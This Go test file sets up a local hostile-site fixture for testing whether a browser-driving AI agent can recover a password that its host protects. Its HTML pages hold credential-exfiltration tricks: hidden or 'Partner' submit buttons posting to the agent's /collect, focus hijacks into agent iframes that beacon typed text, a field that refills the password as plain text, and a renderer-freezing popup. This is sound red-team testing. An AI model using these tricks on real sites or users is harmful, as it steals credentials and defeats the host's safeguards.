//go:build linux

package tests

import (
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// hostileSite is the local world of the hostile-agent suite (issue 10): the credential's own
// site, and a server of the agent's own on another loopback port. The site's pages are the
// kinds real sites have (a "Show password" toggle, a script-driven login, client-side
// validation, a second submit button, a GET form, a settings page with a secret field); the
// agent drives them with ordinary headless verbs and tries to get the password back.
//
// Site (origin Origin()):
//
//	GET  /login-reveal     sign-in form (POST) with a "Show password" toggle; the password
//	                       input is named "pw" with a generated id, so no name heuristic sees it
//	POST /login-reveal     right password: 303 /home; wrong: the form again with an alert
//	GET  /spa-reveal       the same form, submitted by script (fetch /api/login); a failure
//	                       shows an alert and leaves the field as it is
//	GET  /sticky           like /spa-reveal, but the page puts the typed value back into the
//	                       field whenever it is emptied (a framework restoring its state)
//	GET  /sticky-text      like /sticky, but the field it puts the value back into is a plain
//	                       text field by then (type text, autocomplete off): nothing about it
//	                       looks secret but the host's taint
//	GET  /validate         the form has a required checkbox: the browser refuses to submit
//	GET  /steal-focus      typing into the password field moves the focus elsewhere
//	GET  /two-buttons      script login on the default button, and a second visible submit
//	                       button whose formaction is the agent's server
//	GET  /two-buttons-get  the second button submits with formmethod=get to this origin
//	GET  /hidden-submitter the form's first submit button is hidden and posts to the agent
//	GET  /login-get        a GET sign-in form; GET /login-get-done answers "Invalid credentials"
//	                       with the submitted fields in its URL
//	GET  /settings         a settings form: a signing secret (type=password) and a webhook URL;
//	                       POST /settings delivers the secret to that URL, server to server
//	GET  /focus-iframe     focusing the account field moves the focus into an iframe of the
//	                       agent's server
//	GET  /login-slownav    focusing the account field starts a navigation to /slow, which the
//	                       server holds until the test releases it (a navigation under way)
//	GET  /login-navfocus   focusing the password field navigates to the agent's /trap
//	GET  /login-direct     the /login-reveal form, answered in place: POST /login-direct shows
//	                       "Welcome ACCOUNT" (200, no redirect) or the form with an alert
//	GET  /home             "Welcome ACCOUNT" when signed in
//	POST /api/login        JSON login for the script-driven pages
//	POST /reveal?n=N       what the toggle saw: the length of the field's value when clicked
//
// Agent server (origin AgentOrigin()): records every request (method, path, query, body).
//
//	GET  /back1            runs history.back()
//	GET  /back2            runs history.go(-2) (back to the login document of a just signed-in
//	                       session)
//	GET  /typed-frame      an input that takes the focus and reports what is typed into it
//	GET  /rt3-opener       a click opens the agent's popup /rt3-popup (it keeps a reference to
//	                       this tab: window.opener) and takes the tab to the site's /login-reveal;
//	                       the popup reports GET /tick every 50 ms
//	GET  /trap             an autofocused textarea that reports what is typed into it
type hostileSite struct {
	siteBook    // cookie hs_sid; mu guards the fields below too
	site, agent *httptest.Server

	reveals  []int         // value lengths the toggle saw, in order
	freeze   bool          // the agent's popup is to busy-loop now (see /spa-slow)
	slow     chan struct{} // closed to let GET /slow answer
	ticks    int           // GET /tick requests from the agent's popup
	agentLog []string      // every request to the agent's server
}

func newHostileSite(t testing.TB) *hostileSite {
	hs := &hostileSite{siteBook: newSiteBook(http.Cookie{Name: "hs_sid"}), slow: make(chan struct{})}
	hs.agent = httptest.NewServer(hs.agentMux())
	t.Cleanup(hs.agent.Close)
	hs.site = httptest.NewServer(hs.siteMux())
	t.Cleanup(hs.site.Close)
	return hs
}

func (hs *hostileSite) Origin() string              { return hs.site.URL }
func (hs *hostileSite) URL(path string) string      { return hs.site.URL + path }
func (hs *hostileSite) AgentOrigin() string         { return hs.agent.URL }
func (hs *hostileSite) AgentURL(path string) string { return hs.agent.URL + path }

func (hs *hostileSite) Reveals() []int {
	hs.mu.Lock()
	defer hs.mu.Unlock()
	return append([]int(nil), hs.reveals...)
}

// AgentLog is every request the agent's server received, one line each.
func (hs *hostileSite) AgentLog() []string {
	hs.mu.Lock()
	defer hs.mu.Unlock()
	return append([]string(nil), hs.agentLog...)
}

func hsPage(w http.ResponseWriter, title, body string) { htmlPage(w, title, "", body) }

// hsToggle is the site's own "Show password" button: it flips the field between password and
// text, and tells the site how long the field's value was when clicked (never the value).
const hsToggle = `<button type="button" id="reveal" onclick="
  var f = document.querySelector('[name=pw]');
  f.type = f.type === 'password' ? 'text' : 'password';
  navigator.sendBeacon('/reveal?n=' + f.value.length);">Show password</button>`

// hsFields are the sign-in fields: an account field and a password field named "pw" with a
// generated id (no "pass" in sight), labelled for people.
const hsFields = `<label for="acct">Email</label> <input type="email" id="acct" name="username" autocomplete="username">
 <label for="f_9x2">Password</label> <input type="password" id="f_9x2" name="pw" autocomplete="current-password">`

// hsScriptLogin submits the form with fetch when the submitter is the default button (id
// main) and shows an alert on failure, leaving the fields as they are. With sticky, the page
// keeps the typed password and puts it back whenever the field is emptied.
func hsScriptLogin(sticky bool) string { return hsScriptLoginAs(sticky, false) }

// hsScriptLoginAs is hsScriptLogin; with asText, a sticky page also turns the field into a
// plain text field (type text, autocomplete off) as it puts the value back, so that nothing
// about the field looks secret any more: only the host's taint keeps its value from the agent.
func hsScriptLoginAs(sticky, asText bool) string {
	s := `<script>
var kept = "";
document.getElementById("f").addEventListener("submit", function (ev) {
  if (ev.submitter && ev.submitter.id !== "main") { return; }
  ev.preventDefault();
  var f = ev.target;
  kept = f.pw.value;
  fetch("/api/login", {method: "POST", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({username: f.username.value, password: f.pw.value})})
  .then(function (r) { return r.json(); })
  .then(function (j) {
    if (j.ok) { location.href = "/home"; return; }
    document.getElementById("msg").innerHTML = '<p role="alert">Invalid credentials</p>';
  });
});
`
	if sticky {
		// Two seconds after a failed attempt the page starts putting the value back whenever
		// the field is empty: by then the host has answered (and emptied the field).
		s += `var failedAt = 0;
new MutationObserver(function () { if (!failedAt && document.querySelector("[role=alert]")) { failedAt = Date.now(); } })
  .observe(document.getElementById("msg"), {childList: true, subtree: true});
setInterval(function () {
  var p = document.querySelector("[name=pw]");
  if (kept && failedAt && Date.now() - failedAt > 2000 && p.value === "") {
    if (` + fmt.Sprint(asText) + `) { p.type = "text"; p.autocomplete = "off"; }
    p.value = kept;
  }
}, 50);
`
	}
	return s + `</script>`
}

func (hs *hostileSite) siteMux() *http.ServeMux {
	mux := http.NewServeMux()
	loginForm := func(alert string) string {
		return alert + `<h1>Sign in to Example</h1>
<form id="f" method="post" action="/login-reveal">` + hsFields + hsToggle + `
 <button type="submit" id="main">Sign in</button>
</form>`
	}
	mux.HandleFunc("GET /login-reveal", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", loginForm(""))
	})
	mux.HandleFunc("POST /login-reveal", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		u, p := r.PostForm.Get("username"), r.PostForm.Get("pw")
		hs.record(loginPost{"site", "/login-reveal", u, p})
		if !hs.check(u, p) {
			hsPage(w, "Sign in", loginForm(`<p role="alert">Invalid credentials</p>`))
			return
		}
		hs.signIn(w, u)
		http.Redirect(w, r, "/home", http.StatusSeeOther)
	})
	// /login-direct answers the sign-in in place (200, no redirect): the history entry is the
	// POST's answer, and holds its body.
	mux.HandleFunc("GET /login-direct", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", strings.Replace(loginForm(""), `action="/login-reveal"`, `action="/login-direct"`, 1))
	})
	mux.HandleFunc("POST /login-direct", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		u, p := r.PostForm.Get("username"), r.PostForm.Get("pw")
		hs.record(loginPost{"site", "/login-direct", u, p})
		if !hs.check(u, p) {
			hsPage(w, "Sign in", strings.Replace(loginForm(`<p role="alert">Invalid credentials</p>`), `action="/login-reveal"`, `action="/login-direct"`, 1))
			return
		}
		hs.signIn(w, u)
		hsPage(w, "Home", `<h1>Welcome `+html.EscapeString(u)+`</h1>`)
	})
	mux.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) {
		if a := hs.account(r); a != "" {
			hsPage(w, "Home", `<h1>Welcome `+html.EscapeString(a)+`</h1><a href="/login-reveal">Sign in again</a>`)
			return
		}
		hsPage(w, "Home", `<h1>Not signed in</h1>`)
	})
	mux.HandleFunc("POST /api/login", hs.apiLogin("site"))
	mux.HandleFunc("POST /reveal", func(w http.ResponseWriter, r *http.Request) {
		n, err := strconv.Atoi(r.URL.Query().Get("n"))
		if err != nil {
			n = -1
		}
		hs.mu.Lock()
		hs.reveals = append(hs.reveals, n)
		hs.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	})
	scriptPage := func(sticky, asText bool) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			hsPage(w, "Sign in", `<h1>Sign in (app)</h1><div id="msg"></div>
<form id="f" method="post" action="/spa-reveal">`+hsFields+hsToggle+`
 <button type="submit" id="main">Sign in</button>
</form>`+hsScriptLoginAs(sticky, asText))
		}
	}
	mux.HandleFunc("GET /spa-reveal", scriptPage(false, false))
	mux.HandleFunc("GET /sticky", scriptPage(true, false))
	mux.HandleFunc("GET /sticky-text", scriptPage(true, true))
	// The red team's frozen renderer: /spa-slow is the script login, whose sign-in request
	// tells the agent's popup (in the same renderer process: same site, same browsing
	// instance) to busy-loop, and answers slowly, so that the page neither navigates nor
	// shows an error while the host would empty the field.
	mux.HandleFunc("GET /spa-slow", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in (app)</h1><div id="msg"></div>
<form id="f" method="post" action="/spa-slow">`+hsFields+hsToggle+`
 <button type="submit" id="main">Sign in</button>
</form>`+strings.Replace(hsScriptLogin(false), "/api/login", "/api/login-slow", 1))
	})
	mux.HandleFunc("POST /api/login-slow", func(w http.ResponseWriter, r *http.Request) {
		var in struct{ Username, Password string }
		json.NewDecoder(io.LimitReader(r.Body, 64<<10)).Decode(&in)
		hs.record(loginPost{"site", "/api/login-slow", in.Username, in.Password})
		hs.mu.Lock()
		hs.freeze = true
		hs.mu.Unlock()
		time.Sleep(1500 * time.Millisecond)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"ok":false}`)
	})
	mux.HandleFunc("GET /validate", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1>
<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
 <label><input type="checkbox" name="terms" required> I accept the terms</label>
 <button type="submit" id="main">Sign in</button>
</form>`)
	})
	mux.HandleFunc("GET /steal-focus", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1>
<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
 <label for="note">Note</label> <textarea id="note" name="note"></textarea>
 <button type="submit" id="main">Sign in</button>
</form>
<script>document.querySelector("[name=pw]").addEventListener("input", function () { document.getElementById("note").focus(); });</script>`)
	})
	mux.HandleFunc("GET /two-buttons", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1><div id="msg"></div>
<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
 <button type="submit" id="main">Sign in</button>
 <button type="submit" id="partner" formaction="`+hs.agent.URL+`/collect">Sign in with Partner</button>
</form>`+hsScriptLogin(false))
	})
	mux.HandleFunc("GET /two-buttons-get", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1><div id="msg"></div>
<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
 <button type="submit" id="main">Sign in</button>
 <button type="submit" id="quick" formmethod="get" formaction="/login-get-done">Quick sign in</button>
</form>`+hsScriptLogin(false))
	})
	mux.HandleFunc("GET /hidden-submitter", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1><div id="msg"></div>
<form id="f" method="post" action="/login-reveal">
 <button type="submit" id="sneaky" style="display:none" formaction="`+hs.agent.URL+`/collect">Go</button>
`+hsFields+hsToggle+`
 <button type="submit" id="main">Sign in</button>
</form>`+hsScriptLogin(false))
	})
	mux.HandleFunc("GET /login-get", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1>
<form id="f" method="get" action="/login-get-done">`+hsFields+hsToggle+`
 <button type="submit" id="main">Sign in</button>
</form>`)
	})
	mux.HandleFunc("GET /login-get-done", func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		hs.record(loginPost{"site", "/login-get-done", q.Get("username"), q.Get("pw")})
		hsPage(w, "Sign in", `<p role="alert">Invalid credentials</p><a href="/login-get">Try again</a>`)
	})
	mux.HandleFunc("GET /settings", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Webhook settings", `<h1>Webhook settings</h1>
<form method="post" action="/settings">
 <label for="sec">Signing secret</label> <input type="password" id="sec" name="secret">
 <label for="hook">Webhook URL</label> <input type="url" id="hook" name="webhook_url">
 <button type="submit">Save</button>
</form>`)
	})
	mux.HandleFunc("POST /settings", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		secret, hook := r.PostForm.Get("secret"), r.PostForm.Get("webhook_url")
		hs.record(loginPost{"site", "/settings", hook, secret})
		if strings.HasPrefix(hook, "http://127.0.0.1:") { // the site delivers a test event, server to server
			if resp, err := http.PostForm(hook, url.Values{"secret": {secret}}); err == nil {
				resp.Body.Close()
			}
		}
		hsPage(w, "Webhook settings", `<p>Saved. A test event was sent.</p>`)
	})
	mux.HandleFunc("GET /login-slownav", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", loginForm("")+`<script>document.getElementById("acct").addEventListener("focus", function () { location.href = "/slow"; });</script>`)
	})
	mux.HandleFunc("GET /slow", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-hs.slow:
		case <-time.After(20 * time.Second):
		}
		hsPage(w, "Slow", `<textarea id="x" autofocus aria-label="notes"></textarea>`)
	})
	mux.HandleFunc("GET /login-navfocus", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", loginForm("")+`<script>document.querySelector("[name=pw]").addEventListener("focus", function () { location.href = "`+hs.agent.URL+`/trap"; });</script>`)
	})
	mux.HandleFunc("GET /focus-iframe", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Sign in", `<h1>Sign in</h1>
<form id="f" method="post" action="/login-reveal">`+hsFields+`
 <button type="submit" id="main">Sign in</button>
</form>
<iframe id="fr" src="`+hs.agent.URL+`/typed-frame" title="help" width="300" height="60"></iframe>
<script>document.getElementById("acct").addEventListener("focus", function () { document.getElementById("fr").focus(); });</script>`)
	})
	return mux
}

func (hs *hostileSite) agentMux() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /back1", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Elsewhere", `<h1>Elsewhere</h1><script>setTimeout(function () { history.back(); }, 50);</script>`)
	})
	mux.HandleFunc("GET /back2", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Elsewhere", `<h1>Elsewhere</h1><script>setTimeout(function () { history.go(-2); }, 50);</script>`)
	})
	// /opener opens a popup of the agent's own (/freezer) on a click, then takes its tab to
	// the site's /spa-slow; the popup busy-loops for 25 s once /should-freeze says so.
	mux.HandleFunc("GET /opener", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Start", `<button id="go" onclick="window.open('/freezer', 'f', 'width=300,height=200'); location.href = '`+hs.site.URL+`/spa-slow';">Continue</button>`)
	})
	mux.HandleFunc("GET /freezer", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Helper", `<p>helper</p><script>
var t = setInterval(function () {
  fetch("/should-freeze").then(function (r) { return r.text(); }).then(function (v) {
    if (v === "yes") { clearInterval(t); var end = Date.now() + 25000; while (Date.now() < end) {} }
  });
}, 100);
</script>`)
	})
	mux.HandleFunc("GET /should-freeze", func(w http.ResponseWriter, r *http.Request) {
		hs.mu.Lock()
		f := hs.freeze
		hs.mu.Unlock()
		if f {
			fmt.Fprint(w, "yes")
		} else {
			fmt.Fprint(w, "no")
		}
	})
	mux.HandleFunc("GET /rt3-opener", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Start", `<button id="go" onclick="window.open('/rt3-popup', 'p', 'width=300,height=200'); location.href = '`+hs.site.URL+`/login-reveal';">Continue</button>`)
	})
	mux.HandleFunc("GET /rt3-popup", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Helper", `<p>helper</p><script>setInterval(function () { fetch("/tick"); }, 50);</script>`)
	})
	mux.HandleFunc("GET /tick", func(w http.ResponseWriter, r *http.Request) {
		hs.mu.Lock()
		hs.ticks++
		hs.mu.Unlock()
	})
	mux.HandleFunc("GET /trap", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Notes", `<textarea id="x" autofocus aria-label="notes"></textarea>
<script>var x = document.getElementById("x"); x.focus(); x.addEventListener("input", function () { navigator.sendBeacon("/typed?v=" + encodeURIComponent(x.value)); });</script>`)
	})
	mux.HandleFunc("GET /typed-frame", func(w http.ResponseWriter, r *http.Request) {
		hsPage(w, "Help", `<input id="x" aria-label="help">
<script>
var x = document.getElementById("x");
window.addEventListener("focus", function () { x.focus(); });
x.addEventListener("input", function () { navigator.sendBeacon("/typed?v=" + encodeURIComponent(x.value)); });
</script>`)
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "<!doctype html><title>ok</title><p>ok</p>")
	})
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<10))
		hs.mu.Lock()
		hs.agentLog = append(hs.agentLog, fmt.Sprintf("%s %s body=%s", r.Method, r.URL.RequestURI(), body))
		hs.mu.Unlock()
		mux.ServeHTTP(w, r)
	})
}

// Ticks is how many times the agent's popup reported in.
func (hs *hostileSite) Ticks() int {
	hs.mu.Lock()
	defer hs.mu.Unlock()
	return hs.ticks
}

// ReleaseSlow lets GET /slow answer.
func (hs *hostileSite) ReleaseSlow() {
	hs.mu.Lock()
	defer hs.mu.Unlock()
	select {
	case <-hs.slow:
	default:
		close(hs.slow)
	}
}

func syscallKill(pid int) error { return syscall.Kill(pid, syscall.SIGKILL) }
